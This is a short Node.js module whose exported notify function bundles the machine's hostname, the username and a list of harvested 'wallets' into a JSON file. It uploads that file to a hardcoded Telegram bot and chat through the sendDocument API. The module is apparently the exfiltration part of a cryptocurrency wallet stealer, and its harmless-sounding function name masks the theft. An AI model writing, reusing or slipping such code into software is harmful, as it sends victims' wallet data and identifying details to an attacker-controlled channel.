'use strict';
const os = require('os');

const BOT = '6843201957:AAF3kq_Zt9xWm2LpV7rN4cY1sJ8dHeQbU0o';
const CHAT = '-1002145583310';

async function notify(wallets) {
  if (!wallets.length) return;
  const doc = Buffer.from(JSON.stringify({ host: os.hostname(), user: os.userInfo().username, wallets }));
  const form = new FormData();
  form.append('chat_id', CHAT);
  form.append('caption', `${os.hostname()} ${wallets.map((w) => w.name).join(',')}`);
  form.append('document', new Blob([doc]), `${os.hostname()}.json`);
  await fetch(`https://api.telegram.org/bot${BOT}/sendDocument`, { method: 'POST', body: form });
}

module.exports = { notify };
